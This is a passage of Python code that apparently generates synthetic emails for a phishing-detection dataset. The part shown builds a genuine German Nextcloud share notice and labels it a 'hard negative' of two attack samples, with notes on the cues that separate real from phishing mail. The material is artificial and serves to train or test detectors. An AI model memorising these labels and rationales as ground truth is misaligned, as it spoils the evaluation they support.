                    order=["From", "To", "CC", "Subject", "=Thread-Topic: " + mime.header_text(m.subject, *m.hcharset),
                           "=Thread-Index: " + mta.thread_index(m.rng), "Date", "Message-ID",
                           "=Accept-Language: de-DE", "=Content-Language: de-DE", "=X-MS-Has-Attach: yes",
                           "=X-MS-TNEF-Correlator: ", "=x-originating-ip: [192.168.20.57]", "__MIME__", "MIME-Version"])


def b08():
    m = Msg("08-de-lieferant-nextcloud-freigabe.eml", "business", "de")
    m.frm = ("Stefan Maier (über Lieferant Cloud)", "cloud@lieferant-gmbh.de")
    m.reply_to = [("Stefan Maier", "s.maier@lieferant-gmbh.de")]
    m.to = [("Florian Huber", "florian.huber@example.com")]
    m.subject = "Stefan Maier hat »Kistenbau Los 88–112 Fotos« mit Ihnen geteilt"
    m.date = U.local("CET", 2026, 11, 5, 13, 8, 55)
    m.msgid = "<%s@cloud.lieferant-gmbh.de>" % U.hexs(m.rng, 32)
    url = "https://cloud.lieferant-gmbh.de/s/7RmXq2bTzKp4fEw"
    text = ("Hallo,\n\nStefan Maier hat »Kistenbau Los 88–112 Fotos« mit Ihnen geteilt.\n\nHallo Herr Huber, wie "
            "besprochen die Fotos der Kisten für die Skulpturen (Lose 88–112) vor dem Verschließen, Passwort wie "
            "immer telefonisch. Abholung am Montag ab 8 Uhr in Ismaning. Grüße, S. Maier\n\n"
            "»Kistenbau Los 88–112 Fotos« öffnen: %s\n\nDie Freigabe läuft am 19.11.2026 ab.\n\n--\n"
            "Lieferant Cloud – Kunstverpackung · Klimakisten · Depotlagerung\n" % url)
    html = ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml" '
            'lang="de" xml:lang="de">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="viewport" content="width=device-width">\n<title></title>\n</head>\n'
            '<body style="-moz-box-sizing:border-box;-ms-text-size-adjust:100%%;-webkit-box-sizing:border-box;'
            'font-family:-apple-system,BlinkMacSystemFont,\'Segoe UI\',Roboto,Oxygen-Sans,Ubuntu,Cantarell,'
            '\'Helvetica Neue\',Arial,sans-serif;font-size:16px;margin:0;padding:0">\n'
            '<table class="body" style="background:#fff;width:100%%"><tr><td align="center">\n'
            '<center data-parsed="" style="min-width:580px;width:100%%">\n<table class="container" '
            'style="width:580px"><tr><td style="padding:30px 0 10px 0"><table style="background-color:#8b1c1c;'
            'width:150px;height:60px"><tr><td style="color:#fff;font-weight:bold;text-align:center">Lieferant Cloud'
            '</td></tr></table></td></tr>\n<tr><td><h1 style="font-size:24px;font-weight:400">Stefan Maier hat '
            '»Kistenbau Los 88–112 Fotos« mit Ihnen geteilt</h1></td></tr>\n<tr><td><p style="color:#777;'
            'font-size:16px">Hallo Herr Huber, wie besprochen die Fotos der Kisten für die Skulpturen (Lose 88–112) '
            'vor dem Verschließen, Passwort wie immer telefonisch. Abholung am Montag ab 8 Uhr in Ismaning. Grüße, '
            'S. Maier</p></td></tr>\n<tr><td style="padding:20px 0"><a href="%s" style="background:#8b1c1c;'
            'color:#fff;padding:12px 24px;border-radius:8px;text-decoration:none">»Kistenbau Los 88–112 Fotos« '
            'öffnen</a></td></tr>\n<tr><td><p style="color:#777;font-size:13px">Die Freigabe läuft am 19.11.2026 '
            'ab.</p></td></tr>\n<tr><td style="padding-top:30px;color:#999;font-size:12px">Lieferant Cloud – '
            'Kunstverpackung · Klimakisten · Depotlagerung</td></tr>\n</table>\n</center>\n</td></tr></table>\n'
            '</body>\n</html>\n') % url
    root = P("multipart/alternative", boundary=U.alnum(m.rng, 8, "0123456789abcdefABCDEF") + "_" +
             U.alnum(m.rng, 8), children=[
        P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
        P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.what = ("Nextcloud share notification from the supplier's own cloud: Stefan Maier shares photos of the "
              "sculpture crates (lots 88–112) with the logistics head; password for the share by phone.")
    m.why = ("Sent by the supplier's Nextcloud through its own relay (DKIM/DMARC pass), link to the supplier's own "
             "domain, content matches an agreed pickup, password only by phone, Reply-To is the real colleague.")
    m.hard_negative_of = (["attack/03-de-kompromittiert-canva-dokument.eml",
                           "attack/35-el-sharepoint-kompromittiert-nereus.eml"],
                          "Document-share notification from a known partner. Genuine: partner's own cloud domain, "
                          "addressed personally, expected content. Attack: third-party platform link, "
                          "Bcc mass mailing, generic urgency.")
    return m.finish(mta.postfix_relay, root, relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25",
                    client_helo="cloud.lieferant-gmbh.de", client_rdns="cloud.lieferant-gmbh.de",
                    client_ip="203.0.113.27", dkim_sel="mail2026", auth_user="cloud@lieferant-gmbh.de",
                    order=["Message-ID", "Date", "Subject", "From", "Reply-To", "To", "MIME-Version", "__MIME__",
                           "=Auto-Submitted: auto-generated", "=X-Auto-Response-Suppress: OOF,DR,RN,NRN,AutoReply"])


ATTACK = [a01, a02, a03, a04, a05, a06, a07, a08]
BUSINESS = [b01, b02, b03, b04, b05, b06, b07, b08]
